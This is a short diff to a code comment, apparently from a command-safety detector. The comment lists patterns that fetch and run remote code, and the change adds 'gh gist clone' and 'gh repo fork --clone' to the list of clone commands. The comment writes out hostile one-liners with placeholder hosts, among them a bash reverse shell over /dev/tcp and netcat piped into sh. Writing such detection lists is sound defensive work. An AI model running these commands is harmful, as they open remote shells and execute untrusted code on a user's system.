@@ -255,7 +255,8 @@
 //     >(sh); curl ... >&3, coproc sh), nc HOST PORT | sh, sh <
 //     /dev/tcp/HOST/PORT, the reverse shell bash -i >& /dev/tcp/HOST/PORT
 //     0>&1, a file of a repository the line cloned (git clone, gh repo
-//     clone, hg clone, svn checkout, git submodule add): git clone URL r
+//     clone, gh gist clone, gh repo fork --clone, hg clone, svn checkout,
+//     git submodule add): git clone URL r
 //     && bash r/install.sh, sh < r/install.sh, cat r/install.sh | sh, or
 //     its project built, run or tested by a build tool, package manager or
 //     launcher: make -C r, cd r && npm install, npx, cargo build
